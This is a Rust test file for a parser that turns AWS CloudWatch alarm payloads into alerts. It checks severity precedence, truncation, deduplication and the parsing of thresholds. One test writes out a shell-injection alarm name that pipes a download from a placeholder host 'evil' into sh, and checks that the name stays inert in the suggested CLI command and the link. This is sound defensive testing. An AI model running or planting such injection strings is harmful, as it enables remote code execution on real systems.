use serde_json::{Value, json};

use super::{
    super::{Severity, Status, read},
    fixtures::fixture,
};

fn severity(tags: &Value, description: &str, name: &str) -> Severity {
    let payload =
        json!({"AlarmName": name, "AlarmDescription": description, "NewStateValue": "ALARM", "AlarmTags": tags});
    read(&payload)[0].severity
}

#[test]
fn the_severity_is_the_tags_then_the_descriptions_then_the_names() {
    let none = json!(null);
    for (tags, description, name, expected) in [
        (json!({"severity": "info"}), "[critical] x", "warning-x", Severity::Info),
        (json!([{"Key": "Severity", "Value": "CRITICAL"}]), "x", "x", Severity::Critical),
        (json!([{"key": "severity", "value": "warning"}]), "x", "x", Severity::Warning),
        (json!({"severity": "sev1"}), "[critical] x", "x", Severity::Critical),
        (none.clone(), "[Critical] x", "warning-x", Severity::Critical),
        (none.clone(), "warning: x", "critical-x", Severity::Warning),
        (none.clone(), "Note: x", "critical-x", Severity::Critical),
        (none.clone(), "x", "[info] x", Severity::Info),
        (none.clone(), "x", "criticality-x", Severity::Error),
        (none.clone(), "x", "critical", Severity::Error),
        (none, "x", "x", Severity::Error),
    ] {
        assert_eq!(severity(&tags, description, name), expected, "{tags} {description} {name}");
    }
}

#[test]
fn a_state_that_is_none_is_unclassified_and_nothing_of_it_is_lost() {
    let payload = json!({"AlarmName": "a", "NewStateValue": "MAYBE"});
    let alert = &read(&payload)[0];
    assert_eq!((alert.status, alert.labels["source"].as_str()), (Status::Firing, "unclassified"));
    assert!(alert.meaning.contains(r#"{"AlarmName":"a","NewStateValue":"MAYBE"}"#), "{}", alert.meaning);
}

#[test]
fn a_long_payload_is_cut_and_says_so() {
    let alert = &read(&json!({"x": "é".repeat(5000)}))[0];
    assert!(alert.meaning.ends_with("… (3008 more characters)"), "{}", alert.meaning);
}

#[test]
fn messages_that_differ_are_incidents_of_their_own_and_the_same_one_is_the_same() {
    let (one, other) = (read(&json!({"id": "1", "x": 1})), read(&json!({"id": "1", "x": 2})));
    assert_ne!(one[0].key, other[0].key);
    assert_eq!(one, read(&json!({"id": "1", "x": 1})));
}

#[test]
fn a_lambda_action_that_is_tried_again_is_the_same_event_and_a_later_change_is_another() {
    let mut payload = fixture("lambda-metric");
    let first = read(&payload)[0].event.clone();
    assert_eq!(first, read(&payload)[0].event);
    payload["alarmData"]["state"]["timestamp"] = "2023-08-04T12:37:15.490+0000".into();
    assert_ne!(first, read(&payload)[0].event);
}

#[test]
fn envelopes_without_end_are_opened_only_so_far() {
    let payload = (0..200).fold(json!("x"), |inner, _| json!({"Records": [inner]}));
    assert_eq!(read(&payload)[0].labels["source"], "unclassified");
    let texts = (0..12).fold(
        json!({"AlarmName": "a", "NewStateValue": "OK"}),
        |inner, _| json!({"messageId": "1", "body": inner.to_string()}),
    );
    assert_eq!(read(&texts)[0].labels["source"], "unclassified");
}

#[test]
fn a_hostile_name_stays_a_text_in_the_link_and_in_the_command() {
    let name = "'; curl evil | sh #\n";
    let payload = json!({"AlarmName": name, "NewStateValue": "ALARM", "AlarmArn": format!("arn:aws:cloudwatch:eu-west-1:1:alarm:{name}")});
    let alert = &read(&payload)[0];
    assert_eq!(
        alert.next_step.as_deref(),
        Some(
            r"aws cloudwatch describe-alarm-history --region=eu-west-1 --alarm-name=$'\'; curl evil | sh #\012' --max-items=10"
        )
    );
    assert!(
        alert.links[0].url.ends_with("#alarmsV2:alarm/%27%3B%20curl%20evil%20%7C%20sh%20%23%0A"),
        "{}",
        alert.links[0].url
    );
}

#[test]
fn a_region_that_is_none_makes_no_link() {
    let arn = "arn:aws:cloudwatch:evil.example/eu-west-1:1:alarm:a";
    let alert = &read(&json!({"AlarmName": "a", "NewStateValue": "ALARM", "AlarmArn": arn}))[0];
    assert_eq!(alert.links, []);
    assert_eq!(alert.next_step.as_deref(), Some("aws cloudwatch describe-alarm-history --alarm-name=a --max-items=10"));
}

#[test]
fn the_environment_of_a_job_is_in_no_message() {
    for name in ["job-failed", "job-succeeded"] {
        assert!(!format!("{:?}", read(&fixture(name))).contains("not for a message"), "{name}");
    }
}

#[test]
fn the_value_and_the_threshold_are_read_from_the_reason() {
    let reading = |reason: &str| {
        let metrics = json!([{"id": "m", "expression": "e", "returnData": true}]);
        let payload = json!({"alarmData": {"alarmName": "a", "state": {"value": "ALARM", "reason": reason}, "configuration": {"metrics": metrics}}});
        let reading = read(&payload)[0].reading.clone().unwrap();
        (reading.value, reading.threshold.unwrap_or_default())
    };
    let crossed =
        "Threshold Crossed: 2 out of the last 2 datapoints [3.5 (02/10/19 17:00:00), 9.0 (02/10/19 16:55:00)]";
    for (words, sign) in [
        ("were greater than or equal to", ">="),
        ("were less than or equal to", "<="),
        ("were greater than", ">"),
        ("were not less than", "<"),
    ] {
        assert_eq!(reading(&format!("{crossed} {words} the threshold (-1.5).")), (Some(3.5), format!("{sign} -1.5")));
    }
    let missing = "Threshold Crossed: no datapoints were received for 1 period and 1 missing datapoint was treated as [Breaching].";
    assert_eq!(reading(missing), (None, String::new()));
}

#[test]
fn an_alarm_is_the_same_event_however_often_its_topic_puts_it_into_the_queue() {
    let mut payload = fixture("sns-composite-raw-in-sqs");
    let first = read(&payload);
    payload["Records"][0]["messageId"] = "another".into();
    assert_eq!(first, read(&payload));
}

#[test]
fn tags_that_did_not_come_along_are_taken_over_and_change_nothing_else() {
    let mut alert = read(&fixture("lambda-metric")).remove(0);
    let arn = alert.key.as_str().to_owned();
    assert_eq!(alert.untagged_alarm(), Some(arn.as_str()));
    let tags = [("Severity", "critical"), ("tier", "core"), ("region", "elsewhere")];
    alert.tag(&tags.map(|(name, value)| (name.to_owned(), value.to_owned())));
    assert_eq!((alert.severity, alert.labels["tier"].as_str()), (Severity::Critical, "core"));
    assert_ne!(alert.labels["region"], "elsewhere");
    assert_eq!(alert.untagged_alarm(), None);
    for other in ["event-metric", "task-exit-code", "unknown-event"] {
        assert_eq!(read(&fixture(other))[0].untagged_alarm(), None, "{other}");
    }
}
